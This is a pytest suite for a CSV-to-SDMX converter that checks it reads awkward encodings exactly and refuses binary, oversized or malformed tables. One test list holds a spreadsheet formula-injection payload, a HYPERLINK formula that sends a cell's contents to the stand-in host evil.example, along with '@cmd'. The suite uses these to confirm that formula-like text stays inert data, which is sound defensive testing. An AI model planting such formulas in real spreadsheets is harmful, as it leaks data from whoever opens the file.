"""Hostile or awkward CSV data tables.

Legitimate input is read exactly (a BOM, UTF-16, cp1252, mixed encodings with a warning,
text that looks like a spreadsheet formula); what is not a data table is refused: exit code
3 when the file cannot be read as one (binary content, a cell or header no spreadsheet
holds, an empty file), 1 when it is a table with invalid data (ragged rows, no
observations). A refused submission leaves no output file.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

import pytest
from builders import submission

import sdmx_cso
from sdmx_cso.io import read_submission
from tests.hostile.conftest import Base, Run, refuses_to_convert, run_bounded

COMMENT = "Café – €5, Nairobi"


def _converts_exactly(
    folder: Path, tmp_path: Path, cli: Callable[..., Run], column: str, values: list[str]
) -> None:
    """``convert`` succeeds, and the SDMX message reads back with ``values`` exact."""
    target = tmp_path / "out" / "data.xml"
    run = cli("convert", folder, "--to", "sdmx-ml-2.1", "-o", target)
    assert run.code == 0, run.text
    read = sdmx_cso.read(target).dataset.observations.column(column).to_pylist()
    for value in values:
        assert value in read


def test_a_utf8_bom_is_not_part_of_the_first_column(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    folder = submission(tmp_path / "bom", b"\xef\xbb\xbf" + base.csv, base.metadata)
    raw = read_submission(folder)
    assert raw.table.column_names[0] == "SERIES"
    assert raw.columns["SERIES"] == "SERIES"
    assert sdmx_cso.validate(raw).valid
    _converts_exactly(folder, tmp_path, cli, "SERIES", ["SI_COV_DISAB"])


def test_utf16_with_its_bom_is_read(base: Base, tmp_path: Path, cli: Callable[..., Run]) -> None:
    rows = base.with_cells({(1, "COMMENT_OBS"): COMMENT.replace(",", "")})
    text = "\r\n".join("\t".join(r) for r in rows) + "\r\n"
    folder = submission(tmp_path / "u16", text.encode("utf-16"), base.metadata)
    assert sdmx_cso.validate(folder).valid
    _converts_exactly(folder, tmp_path, cli, "COMMENT_OBS", [COMMENT.replace(",", "")])


def test_a_cp1252_file_is_read_as_cp1252(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    rows = base.with_cells({(1, "COMMENT_OBS"): f'"{COMMENT}"'})
    data = "\r\n".join(",".join(r) for r in rows).encode("cp1252")
    folder = submission(tmp_path / "cp1252", data, base.metadata)
    raw = read_submission(folder)
    assert raw.table.column("COMMENT_OBS")[0].as_py() == COMMENT
    assert raw.problems == ()
    _converts_exactly(folder, tmp_path, cli, "COMMENT_OBS", [COMMENT])


def test_mixed_encodings_are_read_line_by_line_with_a_warning(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    rows = base.with_cells({(1, "COMMENT_OBS"): "Café", (2, "COMMENT_OBS"): "ñandú"})
    lines = [",".join(r).encode("utf-8") for r in rows]
    lines[1] = ",".join(rows[1]).encode("cp1252")  # one row saved on another machine
    folder = submission(tmp_path / "mixed", b"\n".join(lines), base.metadata)
    raw = read_submission(folder)
    assert raw.table.column("COMMENT_OBS").to_pylist()[:2] == ["Café", "ñandú"]
    run = cli("validate", folder)
    assert run.code == 0
    assert "mixed-encoding" in run.out
    assert "row 2" in run.out
    _converts_exactly(folder, tmp_path, cli, "COMMENT_OBS", ["Café", "ñandú"])


def test_invalid_utf8_noise_is_refused(base: Base, tmp_path: Path, cli: Callable[..., Run]) -> None:
    # Exit 3 when no encoding fits; when the detector finds one, the "table" it decodes is
    # refused as invalid data (exit 1: unknown columns, no observations). Never read as data.
    noise = bytes(random.Random(1).randrange(256) for _ in range(5000)).replace(b"\0", b"\1")
    folder = submission(tmp_path / "noise", noise, base.metadata)
    code = cli("validate", folder).code
    assert code in (1, 3)
    refuses_to_convert(cli, folder, code, tmp_path)


def test_invalid_utf8_in_an_ascii_file_is_read_as_cp1252(base: Base, tmp_path: Path) -> None:
    # Not UTF-8, but valid cp1252: a legacy file (documented); the bytes are not dropped.
    rows = base.with_cells({(1, "COMMENT_OBS"): "x"})
    data = "\n".join(",".join(r) for r in rows).encode().replace(b",x,", b",\xc3\x28\xe9,", 1)
    raw = read_submission(submission(tmp_path / "legacy", data, base.metadata))
    assert raw.table.column("COMMENT_OBS")[0].as_py() == "Ã(é"


@pytest.mark.parametrize(
    ("case", "encode"),
    [
        ("plain", lambda text: text.encode("utf-8")),
        ("after-a-bom", lambda text: b"\xef\xbb\xbf" + text.encode("utf-8")),
        ("utf-16", lambda text: text.encode("utf-16")),
        ("other-control", lambda text: text.replace("\x00", "\x01").encode("utf-8")),
    ],
)
def test_nul_bytes_and_control_characters_are_refused(
    case: str, encode: Callable[[str], bytes], base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    rows = base.with_cells({(1, "COMMENT_OBS"): "a\x00b"})
    text = "\n".join(",".join(r) for r in rows)
    folder = submission(tmp_path / case, encode(text), base.metadata)
    run = refuses_to_convert(cli, folder, 3, tmp_path)
    assert "binary content" in run.err
    assert "data.csv" in run.err
    assert cli("validate", folder).code == 3


@pytest.mark.parametrize("case", ["long-cell", "long-code", "no-newline", "unclosed-quote"])
def test_a_50_mb_single_line_is_refused_within_bounded_memory(
    case: str, base: Base, tmp_path: Path
) -> None:
    big = 50 * 1024 * 1024
    header, first = base.csv.split(b"\n")[:2]
    data = {
        "long-cell": header + b"\n" + first.replace(b",,,TDA", b",," + b"x" * big + b",TDA"),
        "long-code": header + b"\n" + first.replace(b"SI_COV_DISAB", b"S" * big),
        "no-newline": b"SERIES" * (big // 6),
        "unclosed-quote": header + b'\n"' + b"x," * (big // 2),
    }[case]
    folder = submission(tmp_path / case, data, base.metadata)
    target = tmp_path / "out.xml"
    run = run_bounded("convert", folder, "--to", "sdmx-ml-2.1", "-o", target)
    if case == "unclosed-quote":  # one 50 MB cell where the header has 16: a ragged row
        assert run.code == 1, run.text
        assert "ragged-row" in run.err
    else:
        assert run.code == 3, run.text
        assert "32767" in run.err
    assert not target.exists()


def test_a_header_wider_than_a_spreadsheet_is_refused(base: Base, tmp_path: Path) -> None:
    data = b"SERIES," * 2_000_000 + b"\n"
    folder = submission(tmp_path / "wide", data, base.metadata)
    run = run_bounded("validate", folder)
    assert run.code == 3
    assert "16384 columns" in run.err


def test_ragged_rows_are_invalid_data(base: Base, tmp_path: Path, cli: Callable[..., Run]) -> None:
    lines = base.csv.split(b"\n")
    lines[2] += b",extra"
    lines[3] = b"SI_COV_DISAB,KE-30"
    folder = submission(tmp_path / "ragged", b"\n".join(lines), base.metadata)
    run = refuses_to_convert(cli, folder, 1, tmp_path)
    assert "ragged-row" in run.err
    assert "row 3" in run.err
    assert "row 4" in run.err


def test_delimiter_detection_is_linear_on_adversarial_quoting(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    # csv.Sniffer takes about half a minute on this 64 KiB sample (its regexes backtrack)
    data = base.csv + b',"' * 40_000 + b"\n"
    folder = submission(tmp_path / "quotes", data, base.metadata)
    run = refuses_to_convert(cli, folder, 1, tmp_path)
    assert "ragged-row" in run.err


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1:A9)", "-2+3", "@cmd"]


def test_formula_like_text_is_data_read_exactly(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    rows = base.with_cells(
        {(i + 1, "COMMENT_OBS"): '"' + f.replace('"', '""') + '"' for i, f in enumerate(FORMULAS)}
    )
    data = "\n".join(",".join(r) for r in rows).encode("utf-8")
    folder = submission(tmp_path / "formulas", data, base.metadata)
    raw = read_submission(folder)
    assert raw.table.column("COMMENT_OBS").to_pylist()[:4] == FORMULAS
    _converts_exactly(folder, tmp_path, cli, "COMMENT_OBS", FORMULAS)
    target = tmp_path / "out.csv"
    assert cli("convert", folder, "--to", "sdmx-csv-2.0", "-o", target).code == 0
    written = target.read_text("utf-8")
    for text in FORMULAS:  # SDMX outputs keep values exact
        assert '"' + text.replace('"', '""') + '"' in written or f",{text}," in written


def test_a_leading_minus_is_a_number_and_validated_as_one(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    rows = base.with_cells({(1, "OBS_VALUE"): "-4.5", (2, "OBS_VALUE"): "=1+1"})
    data = "\n".join(",".join(r) for r in rows).encode("utf-8")
    folder = submission(tmp_path / "minus", data, base.metadata)
    assert read_submission(folder).table.column("OBS_VALUE").to_pylist()[:2] == ["-4.5", "=1+1"]
    run = refuses_to_convert(cli, folder, 1, tmp_path)
    assert "percent-out-of-range" in run.err  # -4.5 read as the number it is
    assert "invalid-number" in run.err  # =1+1 is text, never evaluated to 2


@pytest.mark.parametrize("content", [b"", b"\n\n\r\n", b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(
    content: bytes, base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    folder = submission(tmp_path / "empty", content, base.metadata)
    run = refuses_to_convert(cli, folder, 3, tmp_path)
    assert "data.csv" in run.err


def test_a_header_only_file_has_no_observations(
    base: Base, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    folder = submission(tmp_path / "header", base.csv.split(b"\n")[0] + b"\n", base.metadata)
    run = refuses_to_convert(cli, folder, 1, tmp_path)
    assert "no-observations" in run.err
